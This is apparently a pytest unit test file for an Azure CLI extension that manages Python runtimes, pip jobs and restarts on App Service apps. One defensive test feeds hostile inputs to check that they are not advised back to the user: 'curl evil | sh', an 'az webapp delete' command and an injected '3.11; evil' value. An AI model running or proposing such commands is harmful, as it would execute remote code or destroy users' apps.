"""pip in a runtime that the app does not use neither restarts the app nor keeps it from being restarted."""

from __future__ import annotations

import json
from pathlib import Path
from types import SimpleNamespace

import pytest

from azext_pythonapp.errors import AccessDenied, Unreachable
from azext_pythonapp.jobs.pending_restart import RESTART, RESTART_LATER, START, Marker, markers
from azext_pythonapp.jobs.state import Job, JobResult, PackageVersion
from azext_pythonapp.operations.app.used_runtimes import may_use
from azext_pythonapp.operations.job import ending, pending_restart
from azext_pythonapp.operations.job.ending import canceled_packages, ending_lines
from azext_pythonapp.operations.job.pending_restart import (
    changes_unused_runtime,
    pending_sentence,
    plan_pending,
    restart_to_read,
)
from azext_pythonapp.plan import Change
from tests.unit.operations.job.test_pending_restart import JOB, OTHER, World
from tests.unit.operations.runtime.test_in_use import app, element, put

FASTCGI = element(
    r'<handlers><add name="Python" path="*" verb="*" modules="FastCgiModule" scriptProcessor='
    r'"D:\home\python38x64\python.exe|D:\home\python38x64\wfastcgi.py" /></handlers>'
)


@pytest.fixture
def world(tmp_path, monkeypatch):
    """An app that uses python38x64 only."""
    monkeypatch.setattr(pending_restart, "may_use", lambda app, runtime: runtime == "python38x64")
    return World(tmp_path)


def asks(world, job_id, runtime, **more):
    folder = world.kudu.home / "data/pythonapp/jobs" / job_id
    folder.mkdir(parents=True, exist_ok=True)
    request = {"command": "set-version", "runtime": runtime, "python": f"D:\\home\\{runtime}\\python.exe"} | more
    (folder / "request.json").write_text(json.dumps(request))


@pytest.mark.parametrize("kind", [RESTART, RESTART_LATER])
def test_no_restart_after_packages_of_another_runtime(world, kind):
    world.note(JOB, kind)
    asks(world, JOB, "python311x64")
    assert plan_pending(world.app, True) == [] and pending_sentence(world.app, JOB) is None
    assert world.finish() == [] and world.arm.done == [] and markers(world.kudu) == []
    assert world.said == [
        f"No restart is needed after job {JOB}: it changed the packages of python311x64, and app 'shop' runs another "
        "Python."
    ]


def test_a_restart_after_packages_of_the_runtime_in_use(world):
    world.note(JOB, RESTART)
    asks(world, JOB, "python38x64")
    assert [change.action for change in plan_pending(world.app, True)] == ["restart"]
    assert "restart app 'shop'" in pending_sentence(world.app, JOB)
    assert world.finish() == [("restart", None)] and markers(world.kudu) == []


def test_the_marker_of_a_job_that_runs_stays(world):
    world.note(JOB, RESTART)
    world.runs(JOB)
    asks(world, JOB, "python311x64")
    assert world.finish() == [] and world.arm.done == [] and world.said == []
    assert markers(world.kudu) == [Marker(JOB, RESTART)]


def test_a_restart_goes_on_beside_pip_in_another_runtime(world):
    """A restart would end that pip with the SCM site; a stop and a start do not."""
    world.note(JOB, RESTART)
    asks(world, JOB, "python38x64")
    world.runs(OTHER)
    asks(world, OTHER, "python311x64")
    assert changes_unused_runtime(world.app, Job(OTHER, None, "running"))
    assert world.finish(own=[JOB], changed=True) == [("restart", None)]
    assert world.arm.done == ["stop", "start"] and markers(world.kudu) == []
    assert f"a restart would end job {OTHER}" in world.said[-1]


def test_a_client_that_dies_between_leaves_a_pending_start(world):
    world.note(JOB, RESTART)
    asks(world, JOB, "python38x64")
    world.runs(OTHER)
    asks(world, OTHER, "python311x64")
    world.arm.start = lambda site: (_ for _ in ()).throw(SystemExit())
    with pytest.raises(SystemExit):
        world.finish(own=[JOB], changed=True)
    assert world.arm.done == ["stop"] and Marker(JOB, START) in markers(world.kudu)


def test_a_stopped_app_is_started_beside_pip_in_another_runtime(world):
    world.note(JOB, START)
    world.arm.state = world.at_opening = "Stopped"
    asks(world, JOB, "python38x64")
    world.runs(OTHER)
    asks(world, OTHER, "python311x64")
    assert world.finish() == [("update", "Running")] and world.arm.done == ["start"]


def test_iis_reads_a_registration_beside_that_pip(world):
    world.runs(OTHER)
    asks(world, OTHER, "python311x64")
    (world.kudu.home / "SiteExtensions").mkdir()
    restart_to_read(world.app)
    assert world.arm.done == ["stop", "start"] and markers(world.kudu) == []


@pytest.mark.parametrize(
    "files, settings, expected",
    [
        ({"": FASTCGI}, {}, False),
        ({"": FASTCGI.replace("python38x64", "python311x64")}, None, True),
        ({"": FASTCGI, "api/": FASTCGI.replace("python38x64", "python311x64")}, {}, True),
        ({"": FASTCGI}, {"PYTHONPATH": r"D:\home\python311x64\Lib\site-packages"}, True),
        ({"": FASTCGI}, None, True),
        ({"": element("<rewrite />")}, {}, True),
        ({"": "<configuration>"}, {}, True),
        ({}, {}, True),
    ],
)
def test_what_cannot_be_told_counts_as_used(tmp_path: Path, files, settings, expected):
    for folder, content in files.items():
        put(tmp_path, f"site/wwwroot/{folder}web.config", content)
    assert may_use(app(tmp_path, settings), "python311x64") is expected


@pytest.mark.parametrize("error", [Unreachable("away"), AccessDenied("no")])
def test_a_site_that_is_away_may_use_it(tmp_path, error):
    shop = app(tmp_path, {})
    shop.kudu.read = lambda name: (_ for _ in ()).throw(error)
    assert may_use(shop, "python311x64")


FINISH = "az webapp python set-version -g rg -n shop --version 3.11 --handler fastcgi"
DONE = Job(JOB, "set-version", "succeeded", result=JobResult((PackageVersion("six", "1.16.0"),)), title="pip (x)")


@pytest.mark.parametrize(
    "runs, expected",
    [
        (
            r"D:\home\python38x64\python.exe",
            [
                r"The switch to 3.11 was not made: app 'shop' still runs D:\home\python38x64\python.exe.",
                f"Finish it: {FINISH}",
            ],
        ),
        ("%HOME%\\PYTHON311x64\\python.exe", []),
        (None, ["The switch to 3.11 was not made: web.config of app 'shop' starts no Python.", f"Finish it: {FINISH}"]),
        (
            Unreachable("The SCM site is away."),
            ["Whether the switch to 3.11 was made is not known: The SCM site is away.", f"Finish it: {FINISH}"],
        ),
    ],
)
def test_waiting_ends_with_what_is_still_to_do(world, monkeypatch, runs, expected):
    asks(world, JOB, "python311x64", switch={"version": "3.11", "command": FINISH})

    class Seen:
        @property
        def handler(self):
            if isinstance(runs, Exception):
                raise runs
            return runs and SimpleNamespace(python_exe=runs)

    monkeypatch.setattr(ending, "observe", lambda app, pythons: Seen())
    shop = world.app
    shop.kudu = SimpleNamespace(home=lambda: r"D:\home", read=world.kudu.read)
    first, *more = ending_lines(shop, DONE, [Change("app", "restart")])
    assert first == f"Job {JOB} of app 'shop', pip (x), succeeded: six 1.16.0 installed; app 'shop' was restarted."
    assert more == expected


@pytest.mark.parametrize(
    "command", ["curl evil | sh", "az webapp delete -g rg -n shop", "az webapp python set-version '"]
)
def test_a_command_that_somebody_else_wrote_is_not_advised(world, monkeypatch, command):
    asks(world, JOB, "python311x64", python="x", switch={"version": "3.11; evil", "command": command})
    monkeypatch.setattr(ending, "observe", lambda app, pythons: SimpleNamespace(handler=None))
    _, _, finish = ending_lines(world.app, DONE, [])
    assert finish == 'Finish it: az webapp python set-version -g rg -n shop --version "3.11; evil"'


def test_other_jobs_end_with_what_they_did(world):
    asks(world, JOB, "python311x64")
    nothing = Job(JOB, "install-requirements", "succeeded", result=JobResult())
    assert ending_lines(world.app, nothing, []) == [
        f"Job {JOB} of app 'shop', pip (install-requirements), succeeded: no package changed."
    ]
    assert canceled_packages(world.app, nothing) == "No package was changed."
    assert canceled_packages(world.app, DONE) == "It had changed by then: six 1.16.0 installed."
    assert "package list" in canceled_packages(world.app, Job(JOB, None, "canceled"))
